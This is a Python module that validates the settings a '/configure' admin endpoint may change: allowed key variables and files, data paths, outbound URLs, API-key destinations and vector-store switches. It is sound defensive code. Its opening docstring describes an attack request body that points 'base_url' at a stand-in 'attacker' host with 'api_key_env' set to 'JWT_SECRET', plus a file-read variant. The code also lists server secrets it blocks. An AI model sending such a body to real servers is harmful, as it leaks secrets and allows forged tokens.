"""What ``POST /configure`` may change: the checks between a request body and the new engine.

``/configure`` is open to admins and the ``ADMIN_API_KEY``, but it must not
reach outside the deployment's own secrets and data. Without this policy a
body such as ``{"language_model": {"options": {"base_url": "https://attacker",
"api_key_env": "JWT_SECRET"}}}`` made the server send its JWT secret to the
attacker (after which any token can be forged), ``api_key_file: /etc/...``
sent a file, and a store ``path`` pointed anywhere. The rules, each a 400
naming the field:

- every section is an object; ``provider`` a non-empty string, ``options`` an object;
- ``*_env`` options name only variables in ``security.configure_key_envs``, and never
  the server's own secrets (``JWT_SECRET``, ``ADMIN_API_KEY``, ``MEMORIST_*``, database URLs);
- ``*_file`` options name only files inside ``security.configure_key_dirs``;
- ``path``, ``*_path`` and ``*_dir`` options stay inside the data directory;
- ``*url`` options: http(s) URLs must pass the outbound guard (no loopback, private,
  link-local or metadata address unless allow-listed); other URLs (databases) cannot be
  set at runtime at all;
- the deployment's API keys go only to the origins they were configured for
  (:func:`check_key_destinations`, :mod:`memorist.config.provider_keys`).

After the new engine is built, :func:`verify_built` loads what would otherwise
fail only at first use (a reranker model that is not available offline) and
refuses a store switch that would hide the stored memories.
"""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from ..errors import ConfigurationError, MemoristError, ValidationError
from ..outbound import OutboundGuard
from .files import BARE_ENV
from .provider_keys import DEFAULT_KEY_ENV, KeyOrigins, destination, key_source, origin_of, startup_origins
from .settings import Settings

PROVIDER_SLOTS = ("language_model", "embedder", "vector_store", "reranker", "entity_extractor")
#: Never a provider key source, whatever the allow-list says.
SERVER_SECRETS = frozenset({*BARE_ENV, "DATABASE_URL", "PGPASSWORD", "MEMORIST_SECRETS_DIR"})


def is_server_secret(name: str) -> bool:
    upper = name.upper()
    return upper in SERVER_SECRETS or upper.startswith("MEMORIST_")


def check_patch(patch: Mapping[str, Any], base: Settings, guard: OutboundGuard | None = None) -> None:
    """Raise a 400 naming the field for anything ``patch`` may not set (see the module doc)."""
    guard = guard or OutboundGuard([*base.security.outbound_allow, *base.security.provider_trusted_hosts])
    for section, value in patch.items():
        if section in PROVIDER_SLOTS:
            _check_slot(section, value, base, guard)
        elif not isinstance(value, Mapping):
            raise ValidationError(f"{section}: must be an object of settings")


def _check_slot(slot: str, value: Any, base: Settings, guard: OutboundGuard) -> None:
    if not isinstance(value, Mapping):
        raise ValidationError(f"{slot}: must be an object with 'provider' and/or 'options'")
    if "provider" in value and (not isinstance(value["provider"], str) or not value["provider"].strip()):
        raise ValidationError(f"{slot}.provider: must be a non-empty string")
    options = value.get("options", {})
    if options is None:
        options = {}
    if not isinstance(options, Mapping):
        raise ValidationError(f"{slot}.options: must be an object")
    _check_options(f"{slot}.options", options, base, guard)


def _check_options(prefix: str, options: Mapping[str, Any], base: Settings, guard: OutboundGuard) -> None:
    for key, value in options.items():
        field = f"{prefix}.{key}"
        lowered = str(key).lower()
        if isinstance(value, Mapping):
            _check_options(field, value, base, guard)
            continue
        if value is None:
            continue
        if lowered.endswith("_env"):
            _check_env(field, value, base)
        elif lowered.endswith("_file"):
            _check_file(field, value, base)
        elif lowered == "path" or lowered.endswith(("_path", "_dir")):
            _check_data_path(field, value, base)
        elif lowered.endswith("url"):
            _check_url(field, value, guard)


def _check_env(field: str, value: Any, base: Settings) -> None:
    if not isinstance(value, str) or not value.strip():
        raise ValidationError(f"{field}: must be the name of an environment variable")
    if is_server_secret(value):
        raise ValidationError(f"{field}: '{value}' is one of the server's own secrets and cannot be a provider key")
    allowed = base.security.configure_key_envs
    if value not in allowed:
        raise ValidationError(
            f"{field}: '{value}' is not an allowed key variable (security.configure_key_envs: "
            f"{', '.join(allowed) or 'none'})"
        )


def _inside(path: Path, root: Path) -> bool:
    try:
        path.relative_to(root)
    except ValueError:
        return False
    return True


def _check_file(field: str, value: Any, base: Settings) -> None:
    if not isinstance(value, str) or not value.strip():
        raise ValidationError(f"{field}: must be a file path")
    real = Path(os.path.realpath(Path(value).expanduser()))
    roots = [Path(os.path.realpath(Path(d).expanduser())) for d in base.security.configure_key_dirs]
    if not any(_inside(real, root) for root in roots):
        raise ValidationError(
            f"{field}: key files must be inside a directory listed in security.configure_key_dirs "
            f"({', '.join(str(r) for r in roots) or 'none configured'})"
        )


def _check_data_path(field: str, value: Any, base: Settings) -> None:
    if not isinstance(value, str) or not value.strip():
        raise ValidationError(f"{field}: must be a path")
    root = Path(os.path.realpath(base.data_dir))
    candidate = Path(value).expanduser()
    real = Path(os.path.realpath(candidate if candidate.is_absolute() else root / candidate))
    if not _inside(real, root):
        raise ValidationError(f"{field}: must be inside the data directory ({root})")


def _check_url(field: str, value: Any, guard: OutboundGuard) -> None:
    if not isinstance(value, str) or not value.strip():
        raise ValidationError(f"{field}: must be a URL")
    scheme = value.split(":", 1)[0].lower()
    if scheme not in ("http", "https"):
        raise ValidationError(
            f"{field}: only http(s) URLs can be set through /configure; set database URLs in the config file "
            "or the environment"
        )
    guard.check(value, field)


def check_key_destinations(patch: Mapping[str, Any], settings: Settings) -> None:
    """400 when the slots ``patch`` touches would send the deployment's API key to an origin it
    was not configured for (``settings``: the merged result; see :mod:`memorist.config.provider_keys`)."""
    allowed = KeyOrigins(settings.security.provider_key_origins)
    if not settings.security.guard_providers:
        return
    for slot in PROVIDER_SLOTS:
        if slot not in patch:
            continue
        section = getattr(settings, slot)
        options = section.options
        url = destination(options)
        source = key_source(options, default_env=DEFAULT_KEY_ENV if section.provider == "openai" else None)
        if source is None or allowed.allows(url):
            continue
        shown = origin_of(url) or url
        raise ValidationError(
            f"{slot}.options.base_url: {shown} would receive the deployment's API key ({source}), which is "
            f"sent only to the origins it was configured for ({', '.join(sorted(allowed.origins))}); set this "
            f"base URL in the config file or environment, or list {shown} in security.provider_key_origins"
        )


class StoreSwitchError(MemoristError):
    """A switch of vector store that would hide the memories stored in the current one."""

    status = 409


def verify_built(memory: Any, patch: Mapping[str, Any], previous: Any = None) -> None:
    """Load what a changed slot would otherwise only load on first use; a failure is a 400 now.
    Refuse a store switch that would hide stored memories (409).

    When this raises, the caller abandons ``memory`` (:meth:`Memory.abandon`): what building
    its own vector store created is removed and its own providers are closed, whichever
    check refused it.
    """
    if "vector_store" in patch and previous is not None:
        _keep_memories_reachable(memory, previous)
    if "reranker" not in patch:
        return
    ready = getattr(memory.components.reranker, "ensure_ready", None)
    if ready is None:
        return
    try:
        ready()
    except Exception as exc:
        if isinstance(exc, ConfigurationError):
            raise
        raise ConfigurationError(f"reranker: cannot be loaded: {type(exc).__name__}") from None


def guarded(base: Settings) -> Settings:
    """``base`` with provider clients guarded; the hosts of its own base URLs stay trusted.

    Called once at startup by the server and worker, before any runtime override
    is applied, so only the deployer's file and environment can make a host trusted.
    """
    urls: list[Any] = [os.environ.get("OPENAI_BASE_URL")]
    urls += [slot.options.get("base_url") for slot in base.provider_slots().values()]
    hosts = sorted({urlsplit(u).hostname or "" for u in urls if isinstance(u, str) and u} - {""})
    security = base.security.model_copy(
        update={
            "guard_providers": True,
            "provider_trusted_hosts": [*base.security.provider_trusted_hosts, *hosts],
            "provider_key_origins": startup_origins(urls, base.security.provider_key_origins),
        }
    )
    return base.model_copy(update={"security": security})


def _keep_memories_reachable(memory: Any, previous: Any) -> None:
    """Memorist does not move memories between vector stores, and the relational side (history,
    entities, per-user counts) keeps describing the old store's memories. So another store
    (another provider, table or path) that holds no memory, while the current one holds some,
    would answer every list and search empty as if they were lost: refused. A store that
    already holds memories (switching back) and a switch over an empty store are allowed.
    The refusal leaves no trace: abandoning the new engine removes the empty table (and
    directory) that building its store created."""
    new, old = memory.components.vector_store, previous.components.vector_store
    if new is old or not old.list(None, offset=0, limit=1) or new.list(None, offset=0, limit=1):
        return
    current = previous.settings.vector_store
    raise StoreSwitchError(
        f"vector_store: the memories are in the current store ({current.provider}, options "
        f"{dict(current.options) or '{}'}) and the new one holds none; Memorist does not move memories "
        "between stores, so they would all seem lost. Keep the current store, or empty it first (POST /reset)."
    )
